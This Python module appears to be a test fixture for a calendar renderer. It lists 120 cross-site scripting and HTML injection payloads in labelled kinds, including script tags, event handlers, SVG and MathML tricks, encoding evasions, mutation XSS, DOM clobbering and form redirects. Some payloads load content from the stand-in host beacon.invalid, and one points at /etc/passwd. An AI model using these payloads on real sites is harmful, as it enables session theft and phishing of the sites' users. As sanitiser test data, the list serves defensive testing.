"""What a stranger may write into a calendar to have it run, fetch or show what it should not, in whoever reads it.

`№` stands for a payload's number: a script calls `ran(№)`, a request goes to https://beacon.invalid/№, so that what
gets through says which it was.
"""

from __future__ import annotations

KINDS = {
    "script elements": (
        "<script>ran(№)</script>", "<SCRIPT>ran(№)</SCRIPT>", "</title><script>ran(№)</script>",
        "</style><script>ran(№)</script>", "</desc></svg><script>ran(№)</script>",
        "<script src=//beacon.invalid/№></script>",
        "<scr<script>ipt>ran(№)</scr</script>ipt>", "<script/x>ran(№)</script/y>", "<script\x0c>ran(№)</script\t>",
        "<script type=module>import 'https://beacon.invalid/№'</script>", "--><script>ran(№)</script><!--",
        "</textarea></noscript></xmp></plaintext><script>ran(№)</script>",
    ),
    "event handlers": (
        "<img src=x onerror=ran(№)>", "<img src=x:x onerror='ran(№)'//", "<body onload=ran(№)>",
        "<body onpageshow=ran(№)>",
        "<input autofocus onfocus=ran(№)>", "<details open ontoggle=ran(№)>", "<video src=x onerror=ran(№)>",
        "<audio src=x onerror=ran(№)>", "<marquee onstart=ran(№)>", "<div onpointerover=ran(№)>over</div>",
        "<style onload=ran(№)></style>", "<div style='animation:a' onanimationstart=ran(№)>",
        "<object data=x onerror=ran(№)></object>", "<select autofocus onfocus=ran(№)><option>1",
    ),
    "out of an attribute": (
        '" onmouseover="ran(№)" x="', "' onmouseover='ran(№)' x='", '" autofocus tabindex=1 onfocus="ran(№)',
        "x onclick=ran(№)",
        '"><img src=x onerror=ran(№)>', "'><svg onload=ran(№)>", '" style="background:url(//beacon.invalid/№)',
        "` onerror=ran(№) `",
        '" id="finding-1" href="//beacon.invalid/№', "&quot; onmouseover=&quot;ran(№)&quot; x=&quot;",
    ),
    "addresses": (
        "javascript:ran(№)", "JaVaScRiPt:ran(№)", "java\tscript:ran(№)", "java\nscript:ran(№)",
        "\x01javascript:ran(№)",
        "javascript&colon;ran(№)", "javascript:%72an(№)", "data:text/html,<script>ran(№)</script>",
        "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4", "vbscript:ran(№)",
        "view-source:https://beacon.invalid/№",
        "blob:https://beacon.invalid/№", "file:///etc/passwd#№", "//beacon.invalid/№",
        "https://bank.example@beacon.invalid/№",
        "<a href=javascript:ran(№)>press here</a>",
    ),
    "styles": (
        "<style>*{display:none}/*№*/</style>", "<style>@import 'https://beacon.invalid/№'</style>",
        "<link rel=stylesheet href=https://beacon.invalid/№>",
        "<p style='position:fixed;inset:0;background:#fff'>№</p>",
        "<style>a[href*=a]{background:url(https://beacon.invalid/№)}</style>", "<p style='width:expression(ran(№))'>",
        "<p style=\"behavior:url(//beacon.invalid/№)\">",
        "</style><style>body{background:url(//beacon.invalid/№)}</style>",
        "*/}body{background:url(//beacon.invalid/№)}/*", "<p style='background:\\75rl(//beacon.invalid/№)'>",
    ),
    "SVG": (
        "<svg onload=ran(№)>", "<svg/onload=ran(№)//", "<svg><script>ran(№)</script></svg>",
        "<svg><script xlink:href=//beacon.invalid/№ />",
        "<svg><animate onbegin=ran(№) attributeName=x dur=1s>", "<svg><set attributeName=onload to=ran(№)>",
        "<svg><a xlink:href=javascript:ran(№)><text y=9>press</text></a></svg>",
        "<svg><image href=https://beacon.invalid/№ /></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=ran(№)>#x'/></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.ran(№)</script>'></foreignObject></svg>",
        "<svg><style>@import 'https://beacon.invalid/№';</style></svg>",
        "</svg><svg><feImage href=//beacon.invalid/№ />",
    ),
    "MathML": (
        "<math href=javascript:ran(№)>press</math>", "<math><mtext></mtext><script>ran(№)</script></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:ran(№)>x",
        "<math><annotation-xml encoding=text/html><img src=x onerror=ran(№)>",
    ),
    "templates": (
        "{{ 7*191 }}№", "{% raw %}№", "{{ ''.__class__.__mro__ }}№", "${7*191}№", "#{7*191}№", "<%= 7*191 %>№",
        "{{constructor.constructor('ran(№)')()}}",
        "$committee №",
    ),
    "entities and encodings": (
        "&lt;script&gt;ran(№)&lt;/script&gt;", "&#60;script&#62;ran(№)&#60;/script&#62;",
        "&amp;lt;img src=x onerror=ran(№)&amp;gt;",
        "%3Cscript%3Eran(№)%3C/script%3E", "\\u003cscript\\u003eran(№)\\u003c/script\\u003e",
        "+ADw-script+AD4-ran(№)+ADw-/script+AD4-",
        "\uff1cscript\uff1eran(№)\uff1c/script\uff1e", "<scr\x00ipt>ran(№)</scr\x00ipt>",
        "\u2028<script>ran(№)</script>\u2029",
        "\ufeff<img src=x onerror=ran(№)>", "\x1b$B<script>ran(№)</script>\x1b(B", "<\u200bscript>ran(№)</script>",
    ),
    "what parsing again changes": (
        "<noscript><p title='</noscript><img src=x onerror=ran(№)>'>",
        "<svg></p><style><a title='</style><img src=x onerror=ran(№)>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran(№)&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran(№)>",
        "<listing>&lt;img src=x onerror=ran(№)&gt;</listing>", "<xmp><p title='</xmp><img src=x onerror=ran(№)>'>",
        "<table><td><svg><desc><tr><img src=x onerror=ran(№)>", "<template><img src=x onerror=ran(№)></template>",
        "<div><template shadowrootmode=open><img src=x onerror=ran(№)></template></div>", "``onmouseover=ran(№)",
    ),
    "clobbered names": (
        "<img name=cookie id=cookie №>", "<form id=title name=documentElement><input name=attributes>№</form>",
        "<a id=finding-1 name=finding-1>№</a>", "<a id=ran href='x:ran(№)'></a><a id=ran name=toString>",
    ),
    "what else a page may hold": (
        "<base href=https://beacon.invalid/№/>", "<meta http-equiv=refresh content='0;url=https://beacon.invalid/№'>",
        "<iframe src=https://beacon.invalid/№></iframe>", "<form action=https://beacon.invalid/№><button>Sign in",
        "<!--№", "]]><script>ran(№)</script>", "<?xml-stylesheet href='https://beacon.invalid/№'?>", "<plaintext>№",
    ),
}  # fmt: skip
"""120 payloads."""

PAYLOADS = tuple(
    payload.replace("№", str(number))
    for number, payload in enumerate((one for kind in KINDS.values() for one in kind), 1)
)
